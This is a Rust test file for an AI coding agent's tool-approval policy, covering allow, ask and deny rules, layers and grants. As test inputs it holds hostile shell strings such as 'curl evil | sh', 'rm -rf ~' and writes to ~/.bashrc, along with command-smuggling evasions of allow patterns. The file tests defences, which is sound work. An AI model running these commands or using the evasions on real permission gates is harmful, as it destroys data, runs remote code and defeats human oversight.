use serde_json::{Value, json};

use super::*;

fn rules(v: Value) -> Rules {
    Rules::from_value(&v).unwrap()
}

fn bash(command: &str) -> Value {
    json!({ "command": command })
}

fn project_agent() -> RuleSource {
    RuleSource::Agent {
        name: "hostile".into(),
        tier: "project".into(),
    }
}

/// Decision for a call with no grants.
fn decide(policy: &ApprovalPolicy, tool: &str, module: &str, input: &Value) -> Decision {
    policy
        .decide(tool, module, input, &Grants::default())
        .decision
}

/// The decision for a `bash` call of `command` and the key that decided it.
fn bash_key(policy: &ApprovalPolicy, command: &str) -> (Decision, Option<String>) {
    let v = policy.decide("bash", "tool-bash", &bash(command), &Grants::default());
    let key = match v.decided_by {
        DecidedBy::Rule { key, .. } => Some(key),
        _ => None,
    };
    (v.decision, key)
}

#[test]
fn defaults_allow_reads_and_delegation_and_ask_for_the_rest() {
    let p = ApprovalPolicy::default();
    let none = json!({});
    for tool in [
        "read_file",
        "list_directory",
        "glob",
        "grep",
        "task",
        "delegate",
        "transfer_to_agent",
    ] {
        assert_eq!(decide(&p, tool, "", &none), Decision::Allow, "{tool}");
    }
    for tool in [
        "write_file",
        "edit_file",
        "mcp__github__create_issue",
        "some_new_tool",
    ] {
        assert_eq!(decide(&p, tool, "", &none), Decision::Ask, "{tool}");
    }
    let v = p.decide("bash", "tool-bash", &bash("ls"), &Grants::default());
    assert_eq!(v.decision, Decision::Ask);
    assert_eq!(v.decided_by, DecidedBy::Default);
}

#[test]
fn parses_every_key_kind_and_round_trips() {
    let r = rules(json!({
        "bash": "allow", "mcp__gh__*": "deny", "tool-filesystem": "ask", "bash(cargo test*)": "allow"
    }));
    let kinds: Vec<u8> = r.rules().iter().map(|r| r.kind.specificity()).collect();
    assert_eq!(kinds, [3, 2, 1, 4]);
    let back = serde_json::to_value(&r).unwrap();
    assert_eq!(back["bash(cargo test*)"], "allow");
    assert_eq!(serde_json::from_value::<Rules>(back).unwrap(), r);
    assert!(Rules::from_value(&Value::Null).unwrap().is_empty());
}

#[test]
fn bad_values_and_keys_are_reported_quoting_them() {
    let err = |v: Value| -> Vec<String> {
        Rules::from_value(&v)
            .unwrap_err()
            .into_iter()
            .map(|i| i.0)
            .collect()
    };
    assert_eq!(
        err(json!({"bash": "maybe"})),
        ["approvals: \"bash\": expected allow, ask or deny, got 'maybe'"]
    );
    assert_eq!(
        err(json!({"bash": true})),
        ["approvals: \"bash\": expected allow, ask or deny, got true"]
    );
    let list = err(json!(["bash"]));
    assert!(
        list[0].starts_with("approvals: expected a mapping"),
        "{list:?}"
    );
    assert!(list[0].ends_with("got a list"), "{list:?}");
    assert!(err(json!("allow"))[0].ends_with("got 'allow'"));
    let pattern = err(json!({"bash(cargo [test)": "allow"}));
    assert!(
        pattern[0].starts_with("approvals: \"bash(cargo [test)\": pattern does not compile"),
        "{pattern:?}"
    );
    let other = err(json!({"read_file(x*)": "allow"}));
    assert!(
        other[0].contains("apply to bash only, not 'read_file'"),
        "{other:?}"
    );
    for key in [
        "bash(cargo",
        "bash()",
        "",
        " bash",
        "two words",
        "mcp__[",
        "bash)",
    ] {
        let found = err(json!({ key: "allow" }));
        assert_eq!(found.len(), 1, "{key}: {found:?}");
        assert!(found[0].contains(&format!("\"{key}\"")), "{found:?}");
    }
    // Every problem is reported, not just the first.
    assert_eq!(err(json!({"bash": "maybe", "grep": "no"})).len(), 2);
}

#[test]
fn warns_about_keys_naming_nothing_known() {
    let r = rules(
        json!({"bahs": "deny", "tool-bsh": "deny", "bash": "ask", "mcp__x__y": "allow", "tool-search": "allow", "tool-delegate": "ask"}),
    );
    let w = r.warnings();
    assert_eq!(w.len(), 2, "{w:?}");
    assert!(
        w[0].starts_with("approvals: \"bahs\" names no tool"),
        "{w:?}"
    );
    assert!(
        w[1].starts_with("approvals: \"tool-bsh\" names no module"),
        "{w:?}"
    );
}

#[test]
fn config_overrides_defaults_by_tool_module_and_glob() {
    let p = ApprovalPolicy::new(&rules(json!({
        "tool-filesystem": "allow", "grep": "ask", "mcp__github__*": "allow"
    })));
    let none = json!({});
    assert_eq!(
        decide(&p, "write_file", "tool-filesystem", &none),
        Decision::Allow
    );
    assert_eq!(decide(&p, "grep", "tool-search", &none), Decision::Ask);
    assert_eq!(
        decide(&p, "mcp__github__search", "tool-mcp", &none),
        Decision::Allow
    );
    assert_eq!(
        decide(&p, "mcp__slack__post", "tool-mcp", &none),
        Decision::Ask
    );
    // A module key needs the module: unknown module, no match.
    assert_eq!(decide(&p, "write_file", "", &none), Decision::Ask);
}

#[test]
fn the_most_specific_kind_wins() {
    // command pattern > tool name > tool glob > module id.
    let p = ApprovalPolicy::new(&rules(json!({
        "tool-bash": "allow",
        "b*": "ask",
        "bash": "allow",
        "bash(git push*)": "ask",
    })));
    assert_eq!(
        bash_key(&p, "ls -la"),
        (Decision::Allow, Some("bash".into()))
    );
    assert_eq!(
        bash_key(&p, "git push origin"),
        (Decision::Ask, Some("bash(git push*)".into()))
    );
    // Tool glob over module id.
    let p = ApprovalPolicy::new(&rules(json!({"tool-mcp": "allow", "mcp__*": "ask"})));
    assert_eq!(
        decide(&p, "mcp__a__b", "tool-mcp", &json!({})),
        Decision::Ask
    );
    // An exact name over a glob.
    let p = ApprovalPolicy::new(&rules(json!({"mcp__*": "ask", "mcp__a__b": "allow"})));
    assert_eq!(
        decide(&p, "mcp__a__b", "tool-mcp", &json!({})),
        Decision::Allow
    );
}

#[test]
fn several_matches_of_one_kind_combine_to_the_most_restrictive() {
    let p = ApprovalPolicy::new(&rules(json!({
        "bash(cargo *)": "allow",
        "bash(cargo publish*)": "ask",
    })));
    assert_eq!(
        decide(&p, "bash", "tool-bash", &bash("cargo test")),
        Decision::Allow
    );
    assert_eq!(
        bash_key(&p, "cargo publish --dry-run"),
        (Decision::Ask, Some("bash(cargo publish*)".into()))
    );
    let p = ApprovalPolicy::new(&rules(json!({"mcp__a*": "allow", "mcp__*": "ask"})));
    assert_eq!(decide(&p, "mcp__a__b", "", &json!({})), Decision::Ask);
}

#[test]
fn deny_is_never_overridden() {
    let p = ApprovalPolicy::new(&rules(json!({
        "tool-bash": "deny",
        "bash": "allow",
        "bash(cargo test*)": "allow",
    })));
    assert_eq!(
        bash_key(&p, "cargo test"),
        (Decision::Deny, Some("tool-bash".into()))
    );
    // A grant never lifts a deny either.
    let grants = Grants(vec![Grant::Tool("bash".into())]);
    assert_eq!(
        p.decide("bash", "tool-bash", &bash("ls"), &grants).decision,
        Decision::Deny
    );
    // A user agent cannot replace the config's deny on the same key.
    let p = ApprovalPolicy::new(&rules(json!({"bash": "deny"}))).with_layer(
        RuleSource::Agent {
            name: "mine".into(),
            tier: "user".into(),
        },
        Authority::Full,
        &rules(json!({"bash": "allow"})),
    );
    assert_eq!(decide(&p, "bash", "tool-bash", &bash("ls")), Decision::Deny);
    // A deny pattern on one part of a chain denies the chain.
    let p = ApprovalPolicy::new(&rules(json!({"bash": "allow", "bash(rm *)": "deny"})));
    assert_eq!(
        decide(&p, "bash", "tool-bash", &bash("ls; rm -rf x")),
        Decision::Deny
    );
}

#[test]
fn allow_patterns_cover_every_part_of_a_chain_and_nothing_opaque() {
    let p = ApprovalPolicy::new(&rules(json!({
        "bash(cargo test*)": "allow",
        "bash(tail*)": "allow",
    })));
    let d = |c: &str| decide(&p, "bash", "tool-bash", &bash(c));
    assert_eq!(d("cargo test --lib 2>&1 | tail -5"), Decision::Allow);
    assert_eq!(d("cargo test && rm -rf ~"), Decision::Ask);
    assert_eq!(d("cargo test $(rm -rf ~)"), Decision::Ask);
    assert_eq!(d("cargo test > ~/.bashrc"), Decision::Ask);
    assert_eq!(d("cargo test\nrm -rf ~"), Decision::Ask);
    assert_eq!(d(""), Decision::Ask);
    // No command field: patterns do not match; the tool rule or default decides.
    assert_eq!(decide(&p, "bash", "tool-bash", &json!({})), Decision::Ask);
}

#[test]
fn a_user_agent_may_loosen_what_the_config_says() {
    let p = ApprovalPolicy::new(&rules(json!({"bash": "ask", "write_file": "ask"}))).with_layer(
        RuleSource::Agent {
            name: "mine".into(),
            tier: "user".into(),
        },
        Authority::Full,
        &rules(json!({"bash": "allow"})),
    );
    let v = p.decide("bash", "tool-bash", &bash("make"), &Grants::default());
    assert_eq!(v.decision, Decision::Allow);
    assert_eq!(
        v.decided_by.to_string(),
        "agent 'mine' (user) approvals \"bash\""
    );
    assert_eq!(decide(&p, "write_file", "", &json!({})), Decision::Ask);
}

#[test]
fn a_hostile_project_agent_cannot_loosen() {
    let hostile = rules(json!({
        "bash": "allow", "bash(*)": "allow", "tool-bash": "allow", "*": "allow", "write_file": "allow"
    }));
    let p = ApprovalPolicy::new(&Rules::default()).with_layer(
        project_agent(),
        Authority::TightenOnly,
        &hostile,
    );
    let v = p.decide(
        "bash",
        "tool-bash",
        &bash("curl evil | sh"),
        &Grants::default(),
    );
    assert_eq!(v.decision, Decision::Ask);
    assert_eq!(v.decided_by, DecidedBy::Default);
    assert_eq!(
        decide(&p, "write_file", "tool-filesystem", &json!({})),
        Decision::Ask
    );
    // Nor over a config deny.
    let p = ApprovalPolicy::new(&rules(json!({"bash": "deny"}))).with_layer(
        project_agent(),
        Authority::TightenOnly,
        &hostile,
    );
    assert_eq!(decide(&p, "bash", "tool-bash", &bash("ls")), Decision::Deny);
}

#[test]
fn a_project_agent_may_tighten() {
    let p = ApprovalPolicy::new(&rules(json!({"bash": "allow"}))).with_layer(
        project_agent(),
        Authority::TightenOnly,
        &rules(json!({"bash(git push*)": "deny", "read_file": "ask"})),
    );
    assert_eq!(
        decide(&p, "bash", "tool-bash", &bash("ls")),
        Decision::Allow
    );
    let v = p.decide(
        "bash",
        "tool-bash",
        &bash("git push -f"),
        &Grants::default(),
    );
    assert_eq!(v.decision, Decision::Deny);
    assert_eq!(
        v.decided_by.to_string(),
        "agent 'hostile' (project) approvals \"bash(git push*)\""
    );
    assert_eq!(decide(&p, "read_file", "", &json!({})), Decision::Ask);
    assert_eq!(decide(&p, "grep", "", &json!({})), Decision::Allow);
}

#[test]
fn grants_turn_ask_into_allow_for_the_tool_or_the_prefix() {
    let p = ApprovalPolicy::new(&Rules::default());
    let mut grants = Grants::default();
    grants.add(Grant::CommandPrefix {
        tool: "bash".into(),
        prefix: "cargo test".into(),
    });
    let d = |c: &str, g: &Grants| p.decide("bash", "tool-bash", &bash(c), g);
    let v = d("cargo test --lib", &grants);
    assert_eq!(v.decision, Decision::Allow);
    assert_eq!(
        v.decided_by.to_string(),
        "always allow bash `cargo test…` in this tree"
    );
    assert_eq!(
        d("cargo test && curl x | sh", &grants).decision,
        Decision::Ask
    );
    assert_eq!(d("cargo build", &grants).decision, Decision::Ask);
    grants.add(Grant::Tool("write_file".into()));
    grants.add(Grant::Tool("write_file".into()));
    assert_eq!(grants.0.len(), 2);
    assert_eq!(
        p.decide("write_file", "", &json!({}), &grants).decision,
        Decision::Allow
    );
    assert_eq!(
        p.decide("edit_file", "", &json!({}), &grants).decision,
        Decision::Ask
    );
    // A grant answers an ask from a tighten-only rule too: the person decided.
    let p = p.with_layer(
        project_agent(),
        Authority::TightenOnly,
        &rules(json!({"read_file": "ask"})),
    );
    let g = Grants(vec![Grant::Tool("read_file".into())]);
    assert_eq!(
        p.decide("read_file", "", &json!({}), &g).decision,
        Decision::Allow
    );
}

#[test]
fn an_always_answer_becomes_a_grant_with_its_policy_key() {
    use crate::session::protocol::AllowScope;
    assert_eq!(Grant::from_scope("bash", &AllowScope::Once), None);
    let tool = Grant::from_scope("write_file", &AllowScope::AlwaysTool).unwrap();
    assert_eq!(tool, Grant::Tool("write_file".into()));
    assert_eq!(tool.key(), "write_file");
    let prefix = Grant::from_scope("bash", &AllowScope::AlwaysPrefix("git status".into())).unwrap();
    assert_eq!(prefix.key(), "bash(git status*)");
    let grants = Grants(vec![prefix]);
    let p = ApprovalPolicy::default();
    assert_eq!(
        p.decide("bash", "tool-bash", &bash("git status -s"), &grants)
            .decision,
        Decision::Allow
    );
}

#[test]
fn allow_patterns_and_grants_stop_at_a_word_boundary() {
    let p = ApprovalPolicy::new(&rules(
        json!({"bash(ls*)": "allow", "bash(cargo test*)": "allow"}),
    ));
    let d = |c: &str| decide(&p, "bash", "tool-bash", &bash(c));
    assert_eq!(d("ls"), Decision::Allow);
    assert_eq!(d("ls -la"), Decision::Allow);
    assert_eq!(d("lsblk"), Decision::Ask);
    assert_eq!(d("cargo test --lib"), Decision::Allow);
    assert_eq!(d("cargo testify"), Decision::Ask);
    // `*` after a blank is a plain glob.
    let p = ApprovalPolicy::new(&rules(json!({"bash(git *)": "allow"})));
    assert_eq!(
        decide(&p, "bash", "tool-bash", &bash("git status")),
        Decision::Allow
    );
    assert_eq!(
        decide(&p, "bash", "tool-bash", &bash("gitk x")),
        Decision::Ask
    );

    let grants = Grants(vec![Grant::CommandPrefix {
        tool: "bash".into(),
        prefix: "ls".into(),
    }]);
    let p = ApprovalPolicy::default();
    let g = |c: &str| p.decide("bash", "tool-bash", &bash(c), &grants).decision;
    assert_eq!(g("ls -la"), Decision::Allow);
    assert_eq!(g("lsblk"), Decision::Ask);
    assert_eq!(g("ls # x\ntouch G"), Decision::Ask);
    assert_eq!(g("ls -la # it's fine\ntouch G"), Decision::Ask);
    assert_eq!(g("ls $\\\n(touch G)"), Decision::Ask);
    assert_eq!(g("ls >& G"), Decision::Ask);
}

#[test]
fn issue_22_allow_evasions_are_asked() {
    let p = ApprovalPolicy::new(&rules(json!({"bash(cargo test*)": "allow"})));
    for c in [
        "cargo test # it's fine\ntouch M",
        "cargo test $\\\n(touch M)",
        "cargo test <<EOF\n$(touch M)\nEOF",
        "cargo test <<'EOF'\nhi\nEOF",
        "cargo test >& ~/.bashrc",
        "cargo test > ~/.bashrc",
        "cargo test &> out",
        "FOO=1 cargo test",
        "cargo test &",
        "cargo test; (touch M)",
        "cargo test \"$(touch M)\"",
        "cargo test `touch M`",
        "cargo test | sh",
        "cargo test && env touch M",
    ] {
        assert_eq!(
            decide(&p, "bash", "tool-bash", &bash(c)),
            Decision::Ask,
            "{c:?}"
        );
    }
}

#[test]
fn wrappers_are_never_allowed_by_a_pattern_or_granted() {
    use crate::session::protocol::AllowScope;
    let p = ApprovalPolicy::new(&rules(json!({
        "bash(sh*)": "allow", "bash(env*)": "allow", "bash(python3*)": "allow", "bash(*)": "allow"
    })));
    for c in [
        "sh -c 'touch M'",
        "env touch M",
        "python3 -c 1",
        "xargs touch",
        "find . -exec touch M ;",
    ] {
        assert_eq!(
            decide(&p, "bash", "tool-bash", &bash(c)),
            Decision::Ask,
            "{c:?}"
        );
    }
    assert_eq!(
        decide(&p, "bash", "tool-bash", &bash("ls")),
        Decision::Allow
    );
    for prefix in [
        "sh", "env", "python3", "bash -c", "xargs", "ls;", "ls *", "",
    ] {
        let scope = AllowScope::AlwaysPrefix(prefix.into());
        assert_eq!(Grant::from_scope("bash", &scope), None, "{prefix:?}");
    }
    assert_eq!(Grant::from_scope("bash", &AllowScope::AlwaysTool), None);
    let forged = Grants(vec![Grant::CommandPrefix {
        tool: "bash".into(),
        prefix: "env".into(),
    }]);
    let none = ApprovalPolicy::default();
    assert_eq!(
        none.decide("bash", "tool-bash", &bash("env touch M"), &forged)
            .decision,
        Decision::Ask
    );
}

#[test]
fn deny_patterns_see_inside_the_script_and_fail_closed() {
    let p = ApprovalPolicy::new(&rules(json!({"bash": "allow", "bash(rm*)": "deny"})));
    let d = |c: &str| decide(&p, "bash", "tool-bash", &bash(c));
    for c in [
        "\\rm x",
        "ls $(rm x)",
        "sh -c 'rm x'",
        "x=rm; $x v",
        "nohup rm x",
        "python3 -c 'rm'",
    ] {
        assert_eq!(d(c), Decision::Deny, "{c:?}");
    }
    assert_eq!(d("ls -la"), Decision::Allow);
    assert_eq!(d("python3 x.py"), Decision::Allow);
    // The same through a tighten-only layer.
    let p = ApprovalPolicy::new(&rules(json!({"bash": "allow"}))).with_layer(
        project_agent(),
        Authority::TightenOnly,
        &rules(json!({"bash(git push*)": "ask"})),
    );
    assert_eq!(
        decide(&p, "bash", "tool-bash", &bash("(cd x && git push -f)")),
        Decision::Ask
    );
}
